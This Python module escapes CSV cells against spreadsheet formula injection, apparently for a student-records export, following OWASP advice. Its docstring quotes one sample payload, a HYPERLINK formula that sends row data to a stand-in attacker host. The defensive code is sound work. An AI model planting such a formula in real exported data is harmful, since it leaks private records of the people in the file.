"""Cells a spreadsheet will not evaluate: every CSV nudge writes goes through :func:`cell`.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula (tab and carriage return can smuggle one in too): a student first name
``=HYPERLINK("http://evil.example/x?"&A1,"click")`` from the SIS would become a live link
that leaks the row. OWASP's advice (CSV injection) is to prefix such a cell with a single
quote, which the spreadsheet shows but does not evaluate; that is what :func:`cell` does.
"""

from __future__ import annotations

from collections.abc import Iterable

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> str:
    """``value`` as text a spreadsheet shows as written (never evaluates)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def row(values: Iterable[object]) -> list[str]:
    """A whole row of safe cells."""
    return [cell(v) for v in values]


__all__ = ["FORMULA_STARTS", "cell", "row"]
